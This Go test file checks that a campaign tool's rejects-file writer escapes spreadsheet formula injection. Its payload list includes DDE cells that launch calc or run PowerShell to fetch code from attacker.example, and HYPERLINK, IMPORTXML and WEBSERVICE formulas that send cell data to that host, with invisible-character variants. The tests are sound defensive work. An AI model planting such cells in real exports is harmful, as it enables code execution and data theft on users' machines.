package campaign

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// payloads are five hundred cells and more that a spreadsheet might run: what is known to
// be tried, behind every opening and in every disguise.
func payloads() (list []string) {
	bodies := []string{
		"1+1", "cmd|'/c calc'!A1", "cmd|'/c powershell IEX(wget attacker.example/x)'!A0", "HYPERLINK(\"http://attacker.example?x=\"&A1,\"click\")",
		"IMPORTXML(CONCAT(\"http://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a\")", "IMPORTDATA(\"http://attacker.example\")",
		"WEBSERVICE(\"http://attacker.example/\"&A1)", "DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'x'",
		"rundll32|'URL.dll,OpenURL calc.exe'!A", "SUM(1;2)*cmd|'/c calc'!A0", "-1+1+cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0", "A1", "x\"; =1+1",
	}
	openings := []string{"=", "+", "-", "@", "==", "=-", "+=", "@=", "＝", "＋", "－", "＠"}
	disguises := []string{"%s", " %s", "\t%s", "\r%s", "\n%s", "\u00a0%s", "\ufeff%s", "\u200b%s", "'%s", "''%s", "\x00%s"}
	for _, body := range bodies {
		for i, opening := range openings {
			for k, disguise := range disguises {
				if (i+k)%3 == 0 || k == 0 {
					list = append(list, fmt.Sprintf(disguise, opening+body))
				}
			}
		}
	}
	return list
}

// opens says whether a cell opens as a formula does, once a spreadsheet has dropped blanks.
func opens(cell string) bool {
	return strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") || strings.HasPrefix(cell, "\n") ||
		strings.ContainsAny(string([]rune(strings.Trim(cell, " \t\r\n\u00a0\ufeff\u200b\x00") + " ")[0]), "=+-@＝＋－＠")
}

// rejectsOf is a file of rejects with a row for each payload.
func rejectsOf(t *testing.T, list []string) []byte {
	t.Helper()
	var out bytes.Buffer
	rejects, err := NewRejectsWriter(&out, []string{"destination", "nome"}, ',')
	if err != nil {
		t.Fatal(err)
	}
	for i, payload := range list {
		if err := rejects.Write(Reject{Line: i, Column: payload, Reason: InvalidNumber, Text: payload, Fields: []string{"+39 340 1234567", payload}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := rejects.Flush(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestNoRejectedRowLeavesAsAFormula(t *testing.T) {
	t.Parallel()
	list := payloads()
	if len(list) < 500 {
		t.Fatalf("%d payloads", len(list))
	}
	rows, err := csv.NewReader(bytes.NewReader(rejectsOf(t, list))).ReadAll()
	if err != nil || len(rows) != 1+len(list) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows[1:] {
		for k, cell := range row[1:] {
			if opens(cell) {
				t.Errorf("cell %d of %q leaves as %q", k+1, list[i], cell)
			}
		}
		if row[0] != "+39 340 1234567" {
			t.Errorf("the number became %q", row[0])
		}
	}
}

// TestAFileOfRejectsReadsAsItWas has the file of rejects read as the next import would.
func TestAFileOfRejectsReadsAsItWas(t *testing.T) {
	t.Parallel()
	c, err := ParseFile("test.yaml", []byte("campaign: x\nroute: [{channel: sms, account: a, text: \"{nome}\"}]\nrecipients: {region: IT}\n"), nil)
	if err != nil {
		t.Fatal(err)
	}
	list := slices.DeleteFunc(payloads(), func(p string) bool { return strings.Contains(p, "\x00") }) // which no CSV may have
	again, err := NewReader(bytes.NewReader(rejectsOf(t, list)), c, ReaderOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, payload := range list {
		r, reject, err := again.Next()
		if reject != nil || err != nil {
			t.Fatalf("%q: %+v, %v", payload, reject, err)
		}
		if got, want := r.Variables["nome"], strings.TrimSpace(payload); got != want {
			t.Errorf("%q came back as %q", want, got)
		}
	}
}

func TestShieldedAndBare(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		"": "", "Ada": "Ada", "+39 340-12": "+39 340-12", "-5": "-5", "-5%": "'-5%", "'Ndrangheta": "'Ndrangheta", "'=1": "''=1", " =1": "' =1", "''": "''",
	} {
		if got := Shielded(cell); got != want || Bare(got) != cell {
			t.Errorf("%q is shielded as %q, want %q; bare again: %q", cell, got, want, Bare(got))
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.StringOfN(rapid.SampledFrom([]rune("'=+-@ \t\r\n\u200b＝1aé")), 0, 8, -1).Draw(t, "cell")
		got := Shielded(cell)
		if Bare(got) != cell || runs(got) {
			t.Fatalf("%q is shielded as %q, and bare again %q", cell, got, Bare(got))
		}
	})
}
